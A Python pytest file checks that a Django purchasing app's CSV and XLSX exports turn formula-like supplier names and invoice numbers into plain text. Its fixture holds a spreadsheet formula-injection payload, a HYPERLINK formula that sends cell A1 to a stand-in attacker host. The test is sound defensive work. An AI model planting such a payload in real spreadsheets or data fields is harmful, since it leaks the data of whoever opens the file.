"""A supplier named like a formula (it may arrive in a UBL e-invoice) is exported as text, never
as a formula cell (issue 14, defect 4)."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from openpyxl import load_workbook

from xfinances.purchases import exports
from xfinances.purchases.tests.factories import make_invoice, make_supplier

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Отвори")'


def test_csv_and_xlsx_neutralise_formula_text(company: Any) -> None:
    invoice = make_invoice(company, number="@SUM(1)", supplier=make_supplier(company, name=EVIL))
    text = exports.to_csv([invoice]).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + EVIL in cells and "'@SUM(1)" in cells
    assert not any(cell.startswith(("=", "@", "+")) for cell in cells)
    sheet = load_workbook(io.BytesIO(exports.to_xlsx([invoice]))).active
    values = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in values)
    assert "'" + EVIL in [cell.value for cell in values]
